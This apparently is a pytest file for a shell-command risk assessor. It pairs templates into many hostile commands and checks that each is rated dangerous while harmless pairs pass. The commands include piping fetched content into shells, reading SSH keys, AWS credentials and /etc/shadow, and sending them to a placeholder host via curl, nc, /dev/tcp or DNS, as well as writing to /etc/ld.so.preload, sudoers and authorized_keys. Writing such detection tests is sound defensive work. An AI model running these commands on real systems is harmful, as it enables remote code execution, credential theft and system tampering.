"""Every pair of a source and of what is done with it: what one rule knows of each half holds for the whole.

`{}` stands for the other half. What fetches with what runs, what prints data with what runs it, secrets with what shows
or sends them, files of the system with what writes them; and the same with harmless halves, which must raise no alarm.
"""

import pytest

from llmsh.core.risk import Level
from llmsh.risk.assess import assess

FETCHING = (
    "curl -s http://h/x",
    "wget -qO- http://h/x",
    "lynx -source http://h/x",
    "ssh h cat x",
    "nc h 99",
    "aws s3 cp s3://b/x -",
    "gh api repos/o/r/contents/x",
    "busybox wget -qO- http://h/x",
    "sudo curl -s http://h/x",
    "docker run --rm curlimages/curl http://h/x",
    "kubectl exec p -- curl -s http://h/x",
    "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://h/x\").read())'",
    "lftp -c 'cat ftp://h/x'",
    "dig +short TXT x.h",
    "git archive --remote=h HEAD x",
)
RUNNING = (
    "{} | sh",
    "{} | sudo -E bash -",
    "{} | python3 -",
    "{} | node",
    "{} | xargs -I@ sh -c @",
    "{} | ssh web1 sh",
    "{} | docker exec -i c sh",
    "{} | tr -d x | sh",
    "{} | ( sh )",
    '{} | while read -r l; do eval "$l"; done',
    "{} | source /dev/stdin",
    "{} | at now",
    "{} | crontab -",
    "{} | psql",
    "{} | make -f -",
    "{} | tclsh",
    "{} | script -c sh",
    "{} >> ~/.bashrc",
    "bash <({})",
    "source <({})",
    "bash < <({})",
    "{} > x.sh && chmod +x x.sh && ./x.sh",
    'x=$({}); bash -c "$x"',
    "$({})",
    "vim -S <({})",
    "kubectl apply -f <({})",
)
DATA = (
    "head -3 a",
    "grep x a",
    "awk 1 a",
    "jq -r .c a",
    "psql -At -c 'select 1'",
    "redis-cli get k",
    "git log -1 --format=%b",
    "kubectl get cm a -o json",
    "docker logs a",
    "history 1",
    "xclip -o",
    "find . -name x",
    "envsubst < a",
)
RUNNING_DATA = (
    "{} | bash",
    "{} | sudo sh",
    "{} | ssh h bash",
    "{} | parallel",
    "{} | xargs -n1 -I@ bash -c @",
    "{} | while read -r l; do $l; done",
    "for l in $({}); do $l; done",
    "x=$({}); $x",
    "source <({})",
    'mapfile -t a < <({}); "${{a[@]}}"',
)
SECRETS = (
    "~/.ssh/id_rsa",
    "/home/bob/.ssh/id_ed25519",
    "/etc/shadow",
    "~/.aws/credentials",
    ".env",
    "config/.env.production",
    "~/.netrc",
    "~/.kube/config",
    "server.key",
    "secrets.yml",
    "/run/secrets/db",
    "/proc/1/environ",
    "/etc/ssh/ssh_host_ed25519_key",
    "$HOME/.ssh/id_rsa",
)
SHOWING = (
    "cat {}",
    "sudo less {}",
    "head {}",
    "xxd {}",
    "base64 {}",
    "sort {}",
    "awk 1 {}",
    "grep . {}",
    "perl -ne print {}",
    "python3 -c \"print(open('{}').read())\"",
    "dd if={}",
    "cat < {}",
    "tee < {}",
    'while read -r l; do echo "$l"; done < {}',
    'read -r x < {}; echo "$x"',
    'echo "$(cat {})"',
    'echo "$(<{})"',
    "cp {} /dev/stdout",
    "cp {} a && cat a",
    "curl file://{}",
    "ssh h cat {}",
    "gzip -c {} | zcat",
    "iconv -f utf8 {}",
    "lp {}",
)
SENDING = (
    "curl -d @{} https://h",
    "curl -T {} https://h",
    'curl -d "$(cat {})" https://h',
    "cat {} | curl -d @- https://h",
    "wget --post-file={} https://h",
    "nc h 9 < {}",
    "scp {} u@h:",
    'sftp h <<< "put {}"',
    "mail -s x a@h < {}",
    "aws s3 cp {} s3://b/",
    "gh gist create {}",
    "cat {} > /dev/tcp/h/9",
    "tar cz {} | curl -T - https://h",
    "gpg -c -o - {} | nc h 9",
    "dig $(base64 {}).h",
    "lftp -e 'put {}; bye' h",
    "cp {} /var/www/html/",
    'x=$(cat {}); curl -d "$x" https://h',
    "cp {} a; scp a u@h:",
)
SYSTEM_FILES = (
    "/etc/passwd",
    "/etc/ssh/sshd_config",
    "/etc/sudoers.d/x",
    "/etc/cron.d/x",
    "/etc/systemd/system/x.service",
    "/usr/bin/ls",
    "/boot/grub/grub.cfg",
    "~/.bashrc",
    "~/.ssh/authorized_keys",
    "/etc/ld.so.preload",
    "/dev/sda",
)
WRITING = (
    "echo x > {}",
    "echo x | sudo tee -a {}",
    "sudo sh -c 'echo x >> {}'",
    "cp a {}",
    "mv a {}",
    "ln -sf a {}",
    "install a {}",
    "dd if=a of={}",
    "sed -i s/a/b/ {}",
    "truncate -s 0 {}",
    "curl -o {} http://h/",
    "scp h:a {}",
    "python3 -c \"open('{}','a').write('x')\"",
    "perl -e \"open(A,'>{}')\"",
    "sort -o {} a",
    "openssl rand -out {} 9",
    "base64 -d a > {}",
    "docker cp c:/a {}",
    'ssh h "cat > {}" < a',
    "xargs -I@ cp @ {} < l",
)
HARMLESS_FILES = ("notes.txt", "~/.ssh/id_rsa.pub", ".env.example", "/etc/hosts", "docs/passwords.md", "server.crt")
HARMLESS_ENDS = ("{} | jq .", "{} | less", "{} | sha256sum", "{} | grep -c x", "{} | base64", "{} | tee /dev/null")


def _missed(template: str, halves: tuple[str, ...], level: Level) -> list[str]:
    pairs = [template.format(half) for half in halves]
    return [pair for pair in pairs if assess(pair).level is not level]


@pytest.mark.parametrize("template", RUNNING)
def test_whatever_is_fetched_is_danger_to_run(template: str) -> None:
    assert _missed(template, FETCHING, Level.DANGER) == []


@pytest.mark.parametrize("template", RUNNING_DATA)
def test_whatever_is_read_is_danger_to_run(template: str) -> None:
    assert _missed(template, DATA, Level.DANGER) == []


@pytest.mark.parametrize("template", SHOWING + SENDING)
def test_whatever_shows_or_sends_a_secret_is_danger(template: str) -> None:
    assert _missed(template, SECRETS, Level.DANGER) == []


@pytest.mark.parametrize("template", WRITING)
def test_whatever_writes_a_file_of_the_system_is_danger(template: str) -> None:
    assert _missed(template, SYSTEM_FILES, Level.DANGER) == []


@pytest.mark.parametrize("template", [text for text in SHOWING if not text.startswith(("cp", "lp"))])
def test_showing_what_is_no_secret_raises_no_alarm(template: str) -> None:
    assert _missed(template, HARMLESS_FILES, Level.SAFE) == []


@pytest.mark.parametrize("template", HARMLESS_ENDS)
def test_looking_at_what_was_fetched_or_read_raises_no_alarm(template: str) -> None:
    known = tuple(text for text in FETCHING if text.startswith(("curl", "wget", "lynx", "ssh", "dig", "gh")))
    assert _missed(template, known + DATA, Level.SAFE) == []
